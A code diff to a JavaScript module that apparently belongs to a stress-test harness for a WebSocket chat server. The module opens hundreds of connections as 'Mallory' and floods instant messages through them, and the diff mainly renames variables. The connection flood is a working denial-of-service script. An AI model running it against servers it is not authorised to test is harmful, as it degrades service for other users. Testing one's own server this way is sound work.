@@ -2,19 +2,20 @@
 import { RawSocket, frame } from '../websocket.js';
 
 export const what = 'im to a user with 500 connections of the attacker\'s own, as fast as the server reads';
+export const connections = scale => 500 * scale;
 
 export async function attack({ target, seconds, scale }) {
-  const connections = [];
+  const open = [];
   let received = 0;
-  for (let n = 0; n < 500 * scale; n++) {
+  for (let n = 0; n < connections(scale); n++) {
     const raw = await RawSocket.identified(target, 'Mallory').catch(() => null);
     if (!raw) continue;
     raw.tcp.on('data', data => { received += data.length; });
-    connections.push(raw);
+    open.push(raw);
   }
 
   const im = frame(`42${JSON.stringify(['im', { from: 'Mallory', to: 'Mallory', text: 'x'.repeat(100) }])}`);
-  const sent = await Promise.all(connections.slice(0, 8).map(raw => raw.flood(seconds, () => im)));
-  for (const raw of connections) raw.tcp.destroy();
-  return { connections: connections.length, sent: sent.reduce((sum, count) => sum + count, 0), megabytesReceived: Math.round(received / 1e6) };
+  const sent = await Promise.all(open.slice(0, 8).map(raw => raw.flood(seconds, () => im)));
+  for (const raw of open) raw.tcp.destroy();
+  return { connections: open.length, sent: sent.reduce((sum, count) => sum + count, 0), megabytesReceived: Math.round(received / 1e6) };
 }
